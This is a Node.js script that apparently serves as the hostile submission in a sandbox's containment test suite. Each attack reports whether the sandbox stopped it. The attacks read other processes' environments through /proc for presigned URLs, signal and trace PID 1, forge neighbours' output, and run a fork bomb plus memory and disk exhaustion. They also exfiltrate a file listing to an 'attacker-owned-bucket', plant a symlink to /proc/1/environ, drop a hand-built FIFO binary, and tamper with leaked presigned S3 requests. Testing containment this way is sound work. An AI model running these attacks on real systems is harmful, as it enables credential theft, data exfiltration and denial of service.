// A hostile submission for the rehearsal's attack suite: `node attack.mjs <attack> [<host ports as JSON>] [<marker>]`. It tries
// one thing it must not be able to do and writes what happened to the result file: { attack, contained, evidence }.
// `contained: false` means the attack got through. Some attacks cannot report (the kernel kills them); the rehearsal
// then judges them by the run's end and by what is left on the host.
import { spawn, spawnSync } from 'node:child_process';
import { closeSync, openSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
import net from 'node:net';

/** Every process this attack leaves carries MARKER in its command line, so the host can look for it. */
const [attack = '', hostPorts = '{}', MARKER = 'airlock-attack-leftover'] = process.argv.slice(2);
const resultFile = process.env.AIRLOCK_RESULT_FILE ?? 'result.json';

function report(contained, evidence) {
  const fd = openSync(resultFile, 'w');
  writeSync(fd, JSON.stringify({ attack, contained, evidence }));
  closeSync(fd);
  console.log(`${attack}: ${contained ? 'contained' : 'GOT THROUGH'} — ${evidence}`);
}

const visiblePids = () => readdirSync('/proc').filter((entry) => /^\d+$/.test(entry));
const errorCode = (error) => error?.code ?? String(error);
/** Tries a TCP connection; resolves with 'connected' or the error code. */
const tryConnect = (port, host = '127.0.0.1') =>
  new Promise((resolve) => {
    const socket = net.connect({ port, host, timeout: 2000 });
    socket.on('connect', () => (socket.destroy(), resolve('connected')));
    socket.on('timeout', () => (socket.destroy(), resolve('ETIMEDOUT')));
    socket.on('error', (error) => resolve(errorCode(error)));
  });

const attacks = {
  // Look for the URLs fetch and deliver hold, in every process this one can see.
  'read-environ': () => {
    const pids = visiblePids();
    const others = pids.filter((pid) => pid !== '1' && pid !== String(process.pid));
    const withUrls = pids.filter((pid) => {
      try {
        return /INPUT_URL|OUTPUT_POST/.test(readFileSync(`/proc/${pid}/environ`, 'latin1'));
      } catch {
        return false;
      }
    });
    report(
      others.length === 0 && withUrls.length === 0,
      `visible processes: ${pids.join(', ')}; holding a URL: ${withUrls.length === 0 ? 'none' : withUrls.join(', ')}`,
    );
  },
  // Stop or kill the supervisor (PID 1), and look for fetch and deliver to signal.
  'signal-runner': async () => {
    const results = ['SIGSTOP', 'SIGKILL'].map((signal) => {
      try {
        process.kill(1, signal);
        return `${signal} sent`;
      } catch (error) {
        return `${signal} ${errorCode(error)}`;
      }
    });
    await new Promise((resolve) => setTimeout(resolve, 200));
    const stat = readFileSync('/proc/1/stat', 'utf8');
    const state = stat.slice(stat.lastIndexOf(')') + 2).split(' ')[0];
    const others = visiblePids().filter((pid) => pid !== '1' && pid !== String(process.pid));
    report(
      state !== 'T' && others.length === 0,
      `${results.join(', ')}; PID 1 is still in state ${state}; other processes to signal: ${others.length === 0 ? 'none' : others.join(', ')}`,
    );
  },
  // Trace the supervisor (PID 1) and look for fetch and deliver to trace: through /proc/<pid>/mem (the kernel's
  // ptrace access check, as PTRACE_ATTACH makes it) and /proc/<pid>/environ, and with strace or gdb if the image had them.
  // Contained when no process holding a URL can be reached; what it could do to the supervisor is reported as well.
  'trace-runner': () => {
    const others = visiblePids().filter((pid) => pid !== '1' && pid !== String(process.pid));
    const tries = ['1', ...others].flatMap((pid) =>
      [
        ['mem', 'r+'],
        ['environ', 'r'],
      ].map(([file, flags]) => {
        try {
          closeSync(openSync(`/proc/${pid}/${file}`, flags));
          return `/proc/${pid}/${file}: opened`;
        } catch (error) {
          return `/proc/${pid}/${file}: ${errorCode(error)}`;
        }
      }),
    );
    const tracers = ['strace', 'gdb'].map((tool) => {
      const result = spawnSync(tool, ['-p', '1'], { timeout: 2000 });
      return {
        tool,
        traced: !result.error && result.status === 0,
        result: result.error ? errorCode(result.error) : `exit ${result.status}`,
      };
    });
    report(
      others.length === 0 && !tracers.some((t) => t.traced),
      `${tries.join(', ')}; ${tracers.map((t) => `${t.tool}: ${t.result}`).join(', ')}; ` +
        `other processes to trace (fetch, deliver): ${others.length === 0 ? 'none' : others.join(', ')}`,
    );
  },
  // Write forged lines into the stdout and stderr of every other process it can see (fetch's and deliver's, the
  // run's log stream through PID 1). Contained when no process but its own container's supervisor can be written to.
  'write-neighbour-output': () => {
    const others = visiblePids().filter((pid) => pid !== String(process.pid));
    const tries = others.flatMap((pid) =>
      ['1', '2'].map((fd) => {
        try {
          const out = openSync(`/proc/${pid}/fd/${fd}`, 'w');
          writeSync(out, 'deliver: uploaded output.json (a line forged by the submission)\n');
          closeSync(out);
          return { pid, written: true, result: `/proc/${pid}/fd/${fd}: written` };
        } catch (error) {
          return { pid, written: false, result: `/proc/${pid}/fd/${fd}: ${errorCode(error)}` };
        }
      }),
    );
    const neighbours = others.filter((pid) => pid !== '1');
    report(
      neighbours.length === 0,
      `${tries.map((t) => t.result).join(', ')}; fetch and deliver to write to: ${neighbours.length === 0 ? 'none' : neighbours.join(', ')}`,
    );
  },
  // Reach every port of the rehearsal's host directly, and read the buckets through the front unsigned.
  'reach-host': async () => {
    const ports = JSON.parse(hostPorts);
    const seen = {};
    for (const [name, port] of Object.entries(ports)) seen[name] = await tryConnect(port);
    const routes = readFileSync('/proc/net/route', 'utf8').trim().split('\n').slice(1);
    const interfaces = readFileSync('/proc/net/dev', 'utf8')
      .trim()
      .split('\n')
      .slice(2)
      .map((l) => l.split(':')[0].trim());
    const front = await fetch(`http://127.0.0.1:${ports['S3 front']}/`).then(
      (response) => response.status,
      (error) => errorCode(error.cause ?? error),
    );
    const rawReached = Object.entries(seen).filter(([name, result]) => name !== 'S3 front' && result === 'connected');
    report(
      rawReached.length === 0 && routes.length === 0 && front !== 200,
      `${Object.entries(seen)
        .map(([name, result]) => `${name}: ${result}`)
        .join(
          ', ',
        )}; unsigned ListAllMyBuckets through the front: ${front}; routes: ${routes.length}; interfaces: ${interfaces.join(' ')}`,
    );
  },
  // Leave a process behind in its own session; the host looks for it after the run.
  'setsid-daemon': () => {
    const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', MARKER], {
      detached: true,
      stdio: 'ignore',
    });
    child.unref();
    report(true, `left pid ${child.pid} in its own session; the host must find none of it after the run`);
  },
  // Start processes as fast as it can for 10 s; it got through if 300 were alive at once (above the pids limit), or if
  // nothing refused or killed any of them: a limit that never acted was not shown to hold (a slow machine).
  'fork-bomb': async () => {
    let alive = 0;
    let most = 0;
    let killed = 0;
    const refusals = new Set();
    // Until the kernel refuses a process or kills one, or 300 are alive at once (the limit is 256): each child is a
    // Node process, so on a loaded machine reaching the limit takes far longer than on a quiet one.
    const ends = Date.now() + 90_000;
    await new Promise((resolve) => {
      const next = () => {
        if (Date.now() > ends || most >= 300 || refusals.size > 0 || killed > 0) return resolve();
        const child = spawn(process.execPath, ['--max-old-space-size=8', '-e', 'setInterval(() => {}, 1000)', MARKER], {
          stdio: 'ignore',
        });
        child.on('error', (error) => {
          refusals.add(errorCode(error));
          setTimeout(next, 10);
        });
        child.on('spawn', () => {
          alive += 1;
          most = Math.max(most, alive);
          next();
        });
        child.on('exit', (_, signal) => {
          alive -= 1;
          if (signal === 'SIGKILL') killed += 1;
        });
      };
      next();
    });
    report(
      most < 300 && (refusals.size > 0 || killed > 0),
      `at most ${most} alive at once; ${killed} killed by the kernel; spawn refused with: ${[...refusals].join(', ') || 'nothing'}`,
    );
  },
  // Write to the scratch volume until it is full.
  'fill-scratch': () => {
    const chunk = Buffer.alloc(1024 * 1024, 1);
    const fd = openSync('filler', 'w');
    let written = 0;
    let stoppedBy = 'nothing';
    try {
      for (; written < 64 * 1024; written++) writeSync(fd, chunk);
    } catch (error) {
      stoppedBy = errorCode(error);
    }
    closeSync(fd);
    rmSync('filler');
    report(stoppedBy !== 'nothing', `wrote ${written} MiB, then: ${stoppedBy}`);
  },
  // Allocate (and touch) memory until something stops it; only the kernel can, so this never reports.
  'exceed-memory': () => {
    const held = [];
    for (;;) held.push(Buffer.alloc(64 * 1024 * 1024, 1));
  },
  // Four processes that each stay under a per-process limit (half the task's 1 GiB) and together hold twice it.
  'exceed-memory-together': async () => {
    const count = 4;
    const mib = 512;
    const holder = `const kept = []; for (let i = 0; i < ${mib}; i += 16) kept.push(Buffer.alloc(16 << 20, 1)); console.log('held'); setInterval(() => kept.length, 1000);`;
    const ends = await Promise.all(
      Array.from({ length: count }, () => {
        const child = spawn(process.execPath, ['-e', holder, MARKER], { stdio: ['ignore', 'pipe', 'ignore'] });
        return new Promise((resolve) => {
          child.stdout.once('data', () => resolve('held'));
          child.on('exit', (code, signal) => resolve(signal ?? `exit ${code}`));
        });
      }),
    );
    // If every one holds its share, give the defence several chances to act before calling it through.
    if (ends.every((end) => end === 'held')) await new Promise((resolve) => setTimeout(resolve, 2000));
    report(
      !ends.every((end) => end === 'held'),
      `${count} processes of ${mib} MiB each: ${ends.join(', ')}${ends.every((end) => end === 'held') ? `, all alive 2 s later holding ${count * mib} MiB` : ''}`,
    );
  },
  // 100 MB on stdout, then a normal result.
  'flood-stdout': async () => {
    const line = `${'x'.repeat(1023)}\n`.repeat(1024);
    for (let i = 0; i < 100; i++) {
      if (!process.stdout.write(line)) await new Promise((resolve) => process.stdout.once('drain', resolve));
    }
    report(true, 'wrote 100 MiB to stdout; the runner keeps a tail and the log stream a bounded part');
  },
  // Copy what it can read to a bucket of its own, signed with credentials of its own account, through the only way
  // out there is: the S3 endpoint. Its own account would allow the PUT; the endpoint's policy must refuse it.
  'exfiltrate-through-endpoint': async () => {
    const ports = JSON.parse(hostPorts);
    const date = new Date().toISOString().replace(/[-:]|\.\d{3}/g, '');
    const answer = await fetch(`http://127.0.0.1:${ports['S3 front']}/attacker-owned-bucket/loot.txt`, {
      method: 'PUT',
      body: readdirSync('.').join('\n'),
      headers: {
        'x-amz-date': date,
        'x-amz-content-sha256': 'UNSIGNED-PAYLOAD',
        authorization:
          `AWS4-HMAC-SHA256 Credential=AKIAATTACKEROWNKEY01/${date.slice(0, 8)}/eu-west-1/s3/aws4_request, ` +
          'SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=' +
          '0'.repeat(64),
      },
    }).then(
      async (response) => `${response.status} ${(/<Code>([^<]*)</.exec(await response.text()) ?? [])[1] ?? ''}`,
      (error) => errorCode(error.cause ?? error),
    );
    report(!answer.startsWith('200'), `PUT to its own bucket through the S3 endpoint: ${answer}`);
  },
  // Make the result a link to a file deliver must never upload.
  'output-link': () => {
    rmSync(resultFile, { force: true });
    symlinkSync('/proc/1/environ', resultFile);
    console.log('replaced the result file with a link to /proc/1/environ');
  },
  // Make the result a FIFO: a plain open() of it by deliver would wait for a writer forever. Node cannot make one,
  // so the submission brings its own program (below); elsewhere than x86-64 a Unix socket stands in (also not a file).
  'output-fifo': () => {
    rmSync(resultFile, { force: true });
    if (process.arch !== 'x64') {
      net.createServer().listen(resultFile);
      console.log(`replaced the result file with a Unix socket (no FIFO maker for ${process.arch})`);
      return new Promise((resolve) => setTimeout(resolve, 100));
    }
    writeFileSync('mkfifo', mkfifoProgram(), { mode: 0o755 });
    const made = spawnSync('./mkfifo', [resultFile]);
    console.log(`replaced the result file with a FIFO: ${made.error ? errorCode(made.error) : `errno ${made.status}`}`);
  },
  // Tamper with presigned requests of another run that leaked into the sandbox (leaked.json, beside this script): the GET URL pointed at other keys,
  // the POST's key field and its policy changed, each sent the only way out: through the S3 endpoint. Contained when
  // none is answered 2xx.
  'other-run-key': async () => {
    const { inputUrl, post } = JSON.parse(readFileSync('leaked.json', 'utf8'));
    const otherRun = (key) => key.replace(/runs\/[^/]+\//, 'runs/run-of-someone-else/');
    const url = new URL(inputUrl);
    const status = (promise) =>
      promise.then(
        async (response) =>
          `${response.status} ${(/<Message>([^<]*)</.exec(await response.text()) ?? [])[1] ?? ''}`.trim(),
        (error) => errorCode(error.cause ?? error),
      );
    const get = async (path) => status(fetch(`${url.origin}${path}${url.search}`));
    const postWith = async (change) => {
      const policy = JSON.parse(post.policy);
      const fields = Object.fromEntries(policy.conditions.filter((c) => !Array.isArray(c)).flatMap(Object.entries));
      const changed = change({ fields, policy });
      const form = new FormData();
      for (const [name, value] of Object.entries(changed.fields)) form.append(name, value);
      form.append('Policy', Buffer.from(JSON.stringify(changed.policy)).toString('base64'));
      form.append('X-Amz-Signature', post.signature);
      form.append('file', new Blob(['{"schemaVersion":1,"forged":true}']), 'output.json');
      return status(fetch(post.url, { method: 'POST', body: form }));
    };
    const tries = {
      "GET another run's input": await get(otherRun(url.pathname)),
      "GET the leaked run's result": await get(url.pathname.replace(/runs\/([^/]+)\/.*/, 'results/$1/report.json')),
      "POST with another run's key": await postWith(({ fields, policy }) => ({
        fields: { ...fields, key: otherRun(fields.key) },
        policy,
      })),
      "POST with another run's key in the policy": await postWith(({ fields, policy }) => ({
        fields: { ...fields, key: otherRun(fields.key) },
        policy: {
          ...policy,
          conditions: policy.conditions.map((c) => (!Array.isArray(c) && 'key' in c ? { key: otherRun(c.key) } : c)),
        },
      })),
    };
    const answers = Object.entries(tries).map(([what, answer]) => `${what}: ${answer}`);
    report(!Object.values(tries).some((answer) => /^2/.test(answer)), answers.join('; '));
  },
};

/**
 * A static x86-64 Linux program of 150 bytes, `mkfifo <path>`: mknod(argv[1], S_IFIFO | 0644, 0), then exit with the
 * errno (0 when made). One ELF header, one loadable segment (the whole file at 0x400000), then the code:
 *   mov rdi, [rsp+16]; mov esi, 0x11a4; xor edx, edx; mov eax, 133 (mknod); syscall;
 *   mov edi, eax; neg edi; mov eax, 60 (exit); syscall
 */
function mkfifoProgram() {
  const code = Buffer.from('488b7c2410bea411000031d2b8850000000f0589c7f7dfb83c0000000f05', 'hex');
  const header = Buffer.alloc(64 + 56);
  const size = header.length + code.length;
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]); // ELF, 64-bit, little-endian, version 1
  header.writeUInt16LE(2, 16); // an executable
  header.writeUInt16LE(0x3e, 18); // x86-64
  header.writeUInt32LE(1, 20);
  header.writeBigUInt64LE(0x400000n + BigInt(header.length), 24); // entry: the code, right after the headers
  header.writeBigUInt64LE(64n, 32); // program headers right after this one
  header.writeUInt16LE(64, 52);
  header.writeUInt16LE(56, 54);
  header.writeUInt16LE(1, 56);
  header.writeUInt32LE(1, 64); // PT_LOAD
  header.writeUInt32LE(5, 68); // read and execute
  header.writeBigUInt64LE(0x400000n, 80);
  header.writeBigUInt64LE(0x400000n, 88);
  header.writeBigUInt64LE(BigInt(size), 96);
  header.writeBigUInt64LE(BigInt(size), 104);
  header.writeBigUInt64LE(0x1000n, 112);
  return Buffer.concat([header, code]);
}

// Every attack first tries to leave a mark in the host's /tmp; the rehearsal checks that it is not there.
try {
  writeFileSync('/tmp/airlock-attack-was-here', attack);
} catch {
  // Expected: the container's root is read-only and holds no /tmp.
}

const run = attacks[attack];
if (!run) {
  console.error(`unknown attack ${attack}`);
  process.exit(2);
}
await run();
// Children still referenced (the fork bomb's) would keep this process, and so the run, alive until the deadline.
process.exit(0);
